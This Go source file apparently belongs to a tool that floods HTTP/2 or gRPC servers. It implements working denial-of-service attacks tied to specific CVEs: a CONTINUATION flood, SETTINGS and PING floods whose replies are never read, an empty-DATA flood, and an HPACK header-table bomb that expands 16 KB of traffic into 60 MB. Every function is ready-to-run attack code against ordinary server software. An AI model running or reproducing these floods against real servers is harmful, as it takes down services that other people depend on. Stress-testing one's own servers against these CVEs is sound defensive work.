package main

import (
	"bytes"
	"context"

	"golang.org/x/net/http2"
)

// continuationFlood begins a head that never ends (CVE-2024-27316 and its like): half of the
// connections with pieces full of fields, half with empty ones.
func continuationFlood(ctx context.Context, t *target) {
	// A field without a place in the table: 0x00, a name of one letter, a value of one.
	full := bytes.Repeat([]byte{0x00, 1, 'a', 1, 'b'}, 3000)
	t.flood(ctx, 8, nobody, func(number int, p *peer) {
		if p.stream == 1 {
			p.WriteHeaders(http2.HeadersFrameParam{StreamID: p.next(), BlockFragment: getInfoHead})
		}
		if number%2 == 0 {
			p.WriteContinuation(1, false, full)
		} else {
			p.WriteContinuation(1, false, nil)
		}
	})
}

// settingsFlood and pingFlood want an answer to each frame, which half of the connections don't read
// (CVE-2019-9515, CVE-2019-9512).
func settingsFlood(ctx context.Context, t *target) {
	t.flood(ctx, 8, odd, func(_ int, p *peer) {
		p.WriteSettings(http2.Setting{ID: http2.SettingInitialWindowSize, Val: 65535})
	})
}

func pingFlood(ctx context.Context, t *target) {
	t.flood(ctx, 8, odd, func(_ int, p *peer) {
		p.WritePing(false, [8]byte{1})
	})
}

// emptyDataFlood sends DATA without any (CVE-2019-9518): half of the connections to a call that waits
// for its message, half to one that was refused.
func emptyDataFlood(ctx context.Context, t *target) {
	unknown := head("/unknown/Method")
	t.flood(ctx, 8, nobody, func(number int, p *peer) {
		if p.stream == 1 {
			if number%2 == 0 {
				p.open(getInfoHead)
			} else {
				p.open(unknown)
			}
		}
		p.WriteData(1, false, nil)
	})
}

// hpackBomb puts a large field into the table of the connection, and then names it thousands of times,
// with a byte each: 16 KB that stand for 60 MB.
func hpackBomb(ctx context.Context, t *target) {
	// With the 32 bytes that the table counts for each field that fills its 4,096 bytes.
	const value = 4096 - 32 - 1
	large := []byte{0x40, 1, 'a', 0x7f}
	for rest := value - 0x7f; ; rest >>= 7 {
		if rest < 0x80 {
			large = append(large, byte(rest))
			break
		}
		large = append(large, byte(rest)|0x80)
	}
	large = append(large, bytes.Repeat([]byte{'x'}, value)...)
	first := append(append([]byte{}, getInfoHead...), large...)
	// The first of the fields after the 61 that are always there.
	bomb := append([]byte{}, getInfoHead...)
	bomb = append(bomb, bytes.Repeat([]byte{0x80 | 62}, 16_000-len(bomb))...)
	t.flood(ctx, 8, nobody, func(_ int, p *peer) {
		if p.stream == 1 {
			p.open(first)
		}
		p.open(bomb)
	})
}
